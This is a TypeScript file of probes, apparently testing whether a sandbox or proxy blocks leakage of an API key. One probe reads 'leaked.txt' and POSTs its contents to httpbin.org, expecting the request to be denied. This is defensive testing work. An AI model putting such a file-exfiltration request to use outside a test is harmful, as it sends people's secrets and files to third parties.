import { readFile } from 'node:fs/promises'
import { denialIn } from './denial.ts'
import type { Outcome, Probe } from './main.ts'

export const SECRET_PROBES: Readonly<Record<string, Probe>> = {
  'key in the environment': async () => ({ value: KEY }),
  'key echoed': () => askApi('identity'),
  'key echoed in gzip': () => askApi('gzip'),
  'real key in a body': async () => {
    const leaked = await readFile('leaked.txt', 'utf8')
    return denialIn(await fetch('https://httpbin.org/post', { method: 'POST', body: `found this: ${leaked}` }))
  },
}

const KEY = process.env['ANTHROPIC_API_KEY'] ?? ''

/** Sends the key in a header and in the body to where it belongs; the server answers with both. */
async function askApi(coding: 'identity' | 'gzip'): Promise<Outcome> {
  const response = await fetch('https://api.anthropic.com/v1/messages', {
    method: 'POST',
    headers: { 'x-api-key': KEY, 'accept-encoding': coding },
    body: KEY,
  })
  const echo = (await response.json()) as { readonly key: string; readonly body: string }
  return {
    status: String(response.status),
    coding: response.headers.get('x-coding') ?? 'identity',
    header: response.headers.get('x-echo') ?? '',
    key: echo.key,
    body: echo.body,
  }
}
